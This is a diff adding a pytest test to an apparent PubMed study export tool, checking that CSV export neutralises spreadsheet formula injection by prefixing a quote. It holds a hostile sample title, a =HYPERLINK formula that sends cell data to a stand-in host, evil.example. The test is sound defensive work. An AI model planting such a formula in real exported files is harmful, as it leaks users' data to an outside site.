@@ -342,3 +342,29 @@ def test_a_study_every_query_set_aside_is_left_out_as_in_the_digests(env):
     docs = _read_json(_export(env, "--format", "json"))
     assert list(docs) == [kept.ids["pmid"]]
     assert docs[kept.ids["pmid"]]["conditions"] == ["Everything in the corpus"]
+
+
+@pytest.mark.hostile
+def test_a_title_a_spreadsheet_would_run_as_a_formula_is_written_as_text(env):
+    """A title (or any text) starting with = + - @ opened in Excel or LibreOffice would be run
+    as a formula (=HYPERLINK leaks to a site when clicked): the CSV cell starts with a quote
+    so it shows as text; the other formats keep the title as it is."""
+    from dataclasses import replace
+
+    from tests.helpers.pubmed import studies_of
+    from tests.helpers.studies import store_study
+
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click for the full text")'
+    (study,) = studies_of((FIXTURES / "biopython/pubmed2.xml").read_bytes())[:1]
+    study = replace(study, title=hostile, abstract="-2+3 mg")
+    env.write_queries(QUERIES_YAML)
+    with env.store() as store:
+        study_id, _ = store_study(store, study, "2026-01-05T00:00:00+00:00")
+        store.add_match(study_id, "everything", "pubmed", run_id=0,
+                        now="2026-01-05T00:00:00+00:00", excluded=None, labels=[])
+    (row,) = csv.DictReader(io.StringIO(_export(env, "--format", "csv"), newline=""))
+    assert row["title"] == "'" + hostile
+    assert row["abstract"] == "'-2+3 mg"
+    assert row["pmid"] == study.ids["pmid"]  # a plain value is untouched
+    (doc,) = _read_json(_export(env, "--format", "json")).values()
+    assert doc["title"] == hostile
